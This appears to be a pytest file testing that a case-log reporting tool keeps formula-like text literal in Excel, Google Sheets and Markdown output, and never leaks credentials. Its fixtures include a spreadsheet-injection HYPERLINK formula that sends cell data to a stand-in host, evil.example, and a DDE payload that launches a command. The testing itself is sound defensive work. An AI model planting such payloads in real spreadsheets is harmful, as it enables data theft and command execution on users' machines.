"""Formula injection and secrets: text from the case log never becomes a live formula in what
caseloop writes (Excel, Google Sheets, Markdown), and credentials never leave their file.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import logging
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from python_calamine import CalamineWorkbook

from caseloop.config import load_labels, load_rules
from caseloop.frame import build_frame
from caseloop.markdown import weekly_markdown
from caseloop.rules import evaluate
from caseloop.schema import load_schema
from caseloop.weekly import weekly_report

from caselog import HEADERS, NOW, case, grid, write_xlsx
from fakesheets import FakeCell, FakeSheetsServer, Fault, fake_client_class
from hostile import NOW_TEXT, authorized_user_file, run, sheet_parts

pytest_plugins = ["fakesheets.fixtures"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
IN_W46 = dt.datetime(2026, 11, 13, 10, 0)  # inside the default report week, 2026-W46
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|'/c calc'!A0"
# What must come back as text, exactly, in the generated tabs.
LITERALS = {"=1+1", "+12345678901", "-12345678902", "@SUM(A1)", HYPERLINK, "-2+3", "@supervisor"}


def hostile_cases() -> list[dict[str, Any]]:
    """Formula-like text in every text column that reaches a generated tab."""
    recurring = {"Category": "Listing", "ASIN": "B0EVIL0001", "Opened_At": IN_W46}
    return [
        case(Case_ID="=1+1", Owner=HYPERLINK, **recurring),
        case(Case_ID="+12345678901", Owner="+86 138 0000 0000", **recurring),
        case(Case_ID="-12345678902", Owner="-2+3", **recurring),
        case(Case_ID="@SUM(A1)", Owner="@supervisor", Related_Cases="=1+1", Opened_At=IN_W46),
        case(Case_ID="12345678903", Owner="\t=1+1", Store="=store", Opened_At=IN_W46),
        case(Case_ID="12345678904", Owner="\r=2*3", Summary="=summary", Opened_At=IN_W46),
        case(Case_ID="12345678905", Channel=DDE, Opened_At=IN_W46),  # INVALID: in Notes
        # A field no flag needs: a warning quoted in Notes, the row still judged.
        case(Case_ID="12345678906", Follow_ups="=1+1", Marketplace=DDE, Opened_At=IN_W46),
    ]


def _strings_of(value: Any) -> Iterator[tuple[str, Any]]:
    """Every (key, value) pair anywhere in a JSON document."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield key, item
            yield from _strings_of(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings_of(item)


# --- Excel ------------------------------------------------------------------------------------


def test_excel_tabs_hold_formula_like_text_as_text(tmp_path: Path) -> None:
    log = write_xlsx(tmp_path / "case_log.xlsx", hostile_cases())
    assert run("sync", log, "--now", NOW_TEXT).exit_code == 0
    assert run("report", log, "--now", NOW_TEXT).exit_code == 0
    tabs = ["Status", "Weekly Summary"]
    for tab, xml in sheet_parts(log, tabs).items():
        assert not re.search(rb"<f[ >/]", xml), f"{tab} has a formula element"
        assert b't="str"' not in xml and b't="e"' not in xml
    book = openpyxl.load_workbook(log)
    seen: dict[str, set[str]] = {}
    for tab in tabs:
        cells = [c for row in book[tab].iter_rows() for c in row if isinstance(c.value, str)]
        assert cells and all(c.data_type == "s" for c in cells), tab
        seen[tab] = {c.value for c in cells}
    assert LITERALS <= seen["Status"]
    assert {"=1+1", "+12345678901", "-12345678902", "@SUM(A1)", HYPERLINK} <= seen[
        "Weekly Summary"
    ] | {part for text in seen["Weekly Summary"] for part in text.split(", ")}
    assert any(DDE in text for text in seen["Status"]), "the invalid value is quoted in Notes"
    # calamine, another reader, sees the same text (a formula would read as its result).
    status = CalamineWorkbook.from_path(str(log)).get_sheet_by_name("Status").to_python()
    assert LITERALS <= {value for row in status for value in row if isinstance(value, str)}


# --- Google Sheets ----------------------------------------------------------------------------

KEY = "1InjectionSheetKey_caseloop"


def _seed(fake: FakeSheetsServer) -> None:
    rows = [HEADERS] + [[c.get(h) for h in HEADERS] for c in hostile_cases()]
    sheet = fake.add_spreadsheet(KEY, timezone="Asia/Shanghai").add_sheet("Cases", rows)
    # Typed as text ('=1+1 in the Sheets editor), not as formulas: the values caseloop reads.
    for position, cell in list(sheet.cells.items()):
        if cell.formula is not None:
            sheet.cells[position] = FakeCell(value=cell.formula)


def test_google_tabs_are_written_as_string_values_never_formulas(
    fake_sheets: FakeSheetsServer, tmp_path: Path
) -> None:
    _seed(fake_sheets)
    obj = {"http_client": fake_client_class(fake_sheets.url)}
    creds = authorized_user_file(tmp_path / "user.json")
    for command in ("sync", "report"):
        result = run(command, f"gsheet:{KEY}", "--credentials", creds, "--now", NOW_TEXT, obj=obj)
        assert result.exit_code == 0, result.output
    writes = fake_sheets.requests_of("batchUpdate")
    assert len(writes) == 2
    pairs = [pair for request in writes for pair in _strings_of(request.body)]
    assert not [v for k, v in pairs if k == "formulaValue"], "a formula was sent"
    sent = {v for k, v in pairs if k == "stringValue"}
    assert LITERALS <= sent
    assert all(isinstance(v, str) for k, v in pairs if k == "stringValue")
    book = fake_sheets.book(KEY)
    for tab in ("Status", "Weekly Summary"):
        cells = book.sheet(tab).cells.values()
        assert all(cell.formula is None for cell in cells), tab
    status_values = {cell.value for cell in book.sheet("Status").cells.values()}
    assert LITERALS <= status_values


# --- Markdown ---------------------------------------------------------------------------------


def _table_cells(markdown: str) -> list[str]:
    cells = []
    for line in markdown.splitlines():
        if line.startswith("|") and not line.startswith("|-") and "---" not in line:
            cells += [c.strip() for c in re.split(r"(?<!\\)\|", line.strip())[1:-1]]
    return cells


def test_markdown_cells_cannot_become_formulas(tmp_path: Path) -> None:
    log = write_xlsx(tmp_path / "case_log.xlsx", hostile_cases())
    markdown = tmp_path / "weekly.md"
    result = run("report", log, "--now", NOW_TEXT, "--markdown", markdown)
    assert result.exit_code == 0, result.output
    cells = _table_cells(markdown.read_text(encoding="utf-8"))
    assert cells
    assert not [c for c in cells if c[:1] in FORMULA_STARTS], "a cell would paste as a formula"
    for text in ("=1+1", "+12345678901", "-2+3", "@supervisor"):
        assert any(c == "'" + text or c.startswith("'" + text + ",") for c in cells), text


@pytest.mark.parametrize("owner", ["\t=1+1", "\r=1+1", " =1+1", "\t@x", "\t\r-1"])
def test_markdown_cells_that_start_with_a_tab_or_return_are_prefixed_too(owner: str) -> None:
    # Cells read from a sheet are trimmed, so build the judged cases and put the owner in after.
    schema, rules, labels = load_schema(), load_rules(), load_labels()
    as_of = pd.Timestamp(NOW)
    frame = build_frame(grid([case(Opened_At=IN_W46)]), schema, rules, as_of)
    frame.cases["Owner"] = owner
    report = weekly_report(evaluate(frame.cases, rules, as_of), rules, as_of, None)
    text = weekly_markdown(report, rules, labels, "en", dt.datetime(2026, 11, 20, 18, 5))
    cells = _table_cells(text)
    assert "'" + owner.strip() in cells, "the owner is shown, prefixed so it stays text"
    assert not [c for c in cells if c[:1] in FORMULA_STARTS]


# --- secrets ----------------------------------------------------------------------------------

TOKEN = "ya29.CASELOOP-SECRET-ACCESS-TOKEN-7f3a9c"
REFRESH = "1//CASELOOP-SECRET-REFRESH-TOKEN-41d2"
CLIENT_SECRET = "GOCSPX-CASELOOP-SECRET-CLIENT-9b8e"
KEY_ID = "caseloop-secret-private-key-id-5e6f"


@pytest.fixture
def secret_server(no_network: None) -> Iterator[FakeSheetsServer]:
    """A fake that accepts only the secret token, so the file's token is what gets the answers."""
    with FakeSheetsServer(tokens=frozenset({TOKEN})) as server:
        _seed(server)
        yield server


def _service_account(path: Path) -> tuple[Path, list[str]]:
    """A real RSA key in a service-account file; returns the file and the lines that are secret."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    ).decode()
    path.write_text(
        json.dumps(
            {
                "type": "service_account",
                "project_id": "seller-ops",
                "private_key_id": KEY_ID,
                "private_key": pem,
                "client_email": "caseloop@seller-ops.iam.gserviceaccount.com",
                "client_id": "1234567890",
                "token_uri": "https://oauth2.googleapis.com/token",
            }
        )
    )
    path.chmod(0o600)
    body = [line for line in pem.splitlines() if line and not line.startswith("-----")]
    return path, body


def _every_written_byte(folder: Path, server: FakeSheetsServer, skip: set[Path]) -> str:
    files = [
        p.read_bytes().decode("utf-8", "replace")
        for p in folder.rglob("*")
        if p.is_file() and p not in skip
    ]
    for path in folder.rglob("*.xlsx"):
        with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as archive:
            files += [archive.read(n).decode("utf-8", "replace") for n in archive.namelist()]
    cells = [
        f"{cell.value}{cell.formula}{cell.note}"
        for book in server.books.values()
        for sheet in book.sheets
        for cell in sheet.cells.values()
    ]
    return "\n".join(files + cells)


def test_credentials_are_never_printed_logged_or_written(
    secret_server: FakeSheetsServer, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    user = authorized_user_file(
        tmp_path / "user.json", TOKEN, refresh_token=REFRESH, client_secret=CLIENT_SECRET
    )
    wrong = authorized_user_file(
        tmp_path / "stale.json",
        TOKEN[::-1],
        refresh_token=REFRESH,
        client_secret=CLIENT_SECRET,
    )
    service, key_lines = _service_account(tmp_path / "sa.json")
    broken = tmp_path / "broken.json"
    broken.write_text(json.dumps(json.loads(service.read_text()) | {"private_key": TOKEN}))
    obj = {"http_client": fake_client_class(secret_server.url)}
    log = f"gsheet:{KEY}"
    outputs = []

    def caseloop(*args: Any) -> Any:
        result = run(*args, "--now", NOW_TEXT, obj=obj)
        outputs.append(result.output)
        return result

    assert caseloop("validate", log, "--credentials", user).exit_code == 1
    assert caseloop("sync", log, "--credentials", user).exit_code == 0
    markdown = tmp_path / "weekly.md"
    assert caseloop("report", log, "--credentials", user, "--markdown", markdown).exit_code == 0
    secret_server.inject(Fault(status=403, method="POST"))
    assert caseloop("sync", log, "--credentials", user).exit_code == 2
    # A token the server refuses: google-auth tries to refresh it (the network is closed).
    assert caseloop("sync", log, "--credentials", wrong).exit_code == 2
    # A real service-account key: signing in needs Google's token endpoint, which is closed.
    assert caseloop("sync", log, "--credentials", service).exit_code == 2
    assert caseloop("sync", log, "--credentials", broken).exit_code == 2
    assert len(outputs) == 7 and all(outputs)

    written = _every_written_byte(tmp_path, secret_server, {user, wrong, service, broken})
    everything = "\n".join(outputs) + "\n" + caplog.text + "\n" + written
    for secret in (TOKEN, TOKEN[::-1], REFRESH, CLIENT_SECRET, KEY_ID, *key_lines):
        assert secret not in everything, f"a secret leaked: {secret[:12]}…"
    assert "Wrote 'Status'" in everything  # the capture did see the runs


def test_world_readable_credentials_give_a_warning(
    secret_server: FakeSheetsServer, tmp_path: Path
) -> None:
    user = authorized_user_file(tmp_path / "user.json", TOKEN)
    obj = {"http_client": fake_client_class(secret_server.url)}
    args = ["sync", f"gsheet:{KEY}", "--credentials", user, "--now", NOW_TEXT]
    quiet = run(*args, obj=obj)
    assert quiet.exit_code == 0 and "warning" not in quiet.stderr
    user.chmod(0o644)
    loud = run(*args, obj=obj)
    assert loud.exit_code == 0, loud.output
    assert f"caseloop: warning: The credentials file {user} can be read by every user" in (
        loud.stderr
    )
    assert f"chmod 600 {user}" in loud.stderr
    assert TOKEN not in loud.output
